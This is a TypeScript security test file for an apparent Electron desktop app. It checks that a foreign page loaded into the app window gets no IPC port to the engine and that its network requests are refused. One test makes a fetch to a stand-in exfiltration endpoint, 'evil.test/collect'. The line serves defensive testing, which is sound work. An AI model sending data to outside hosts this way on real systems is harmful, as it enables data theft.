import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Desktop, startDesktop } from './desktop.ts'

// A page that is not ours, in our window, with our preload: every wall before that is taken away, the shell itself loads it.
let desktop: Desktop
let page: Page

beforeAll(async () => {
  desktop = startDesktop({ args: ['--demo', '--port', '0', '--vault', 'memory'] })
  page = await desktop.runningPage()
  await desktop.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.loadURL('data:text/html,<title>foreign</title>'),
  )
})
afterAll(() => desktop.dispose())

test('a foreign page gets no way to the engine', async () => {
  const answered = page.evaluate(
    () =>
      new Promise((resolve) => {
        window.addEventListener('message', ({ data, ports }) => resolve({ data, ports: ports.length }))
        window.addEventListener('done', () => resolve('nothing'))
        Reflect.get(window, 'waybillShell').requestPort()
      }),
  )
  await desktop.saw('ipc', ({ origin }) => origin === 'null')
  // A port would have been sent before this answer, by the same way.
  await desktop.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)
  await page.evaluate(() => window.dispatchEvent(new Event('done')))

  expect(await answered).toBe('nothing')
})

test('a foreign page can load nothing, although no policy of ours came with it', async () => {
  await page.evaluate(() => fetch('https://evil.test/collect', { mode: 'no-cors' }).catch(() => {}))

  expect(await desktop.saw('request-refused')).toMatchObject({ url: 'https://evil.test/collect', by: 'session' })
})
